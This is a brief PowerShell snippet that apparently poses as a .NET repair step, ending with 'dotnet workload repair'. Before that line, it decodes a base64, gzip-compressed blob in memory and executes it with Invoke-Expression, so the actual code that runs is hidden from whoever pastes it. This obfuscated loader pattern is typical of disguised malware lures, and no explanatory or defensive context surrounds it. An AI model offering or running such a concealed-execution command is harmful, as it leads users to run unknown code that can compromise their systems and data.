$g = [Convert]::FromBase64String('H4sIAAAAAAACA03IsQqDMBAA0F85QsB2SKQdlQ7SroJgoUsWSU4NaBJyl9rP79Kh43uy3KqVOVFT19YF7ThmVrPfkDQjcU08LXjViS5VK/kmJIZ30w3Do3t2pvc2R4ozm5cPLh5kRp4yQ4+hmCHHJU/770oyJTltdyfaEVndY2AMDJJBpHhgphW3DdQBKygLHj8nn3eQ5SzaP3wBJxpaSLAAAAA=')
$ms = New-Object IO.MemoryStream(,$g)
$gz = New-Object IO.Compression.GZipStream($ms, [IO.Compression.CompressionMode]::Decompress)
$sr = New-Object IO.StreamReader($gz)
Invoke-Expression $sr.ReadToEnd()
dotnet workload repair
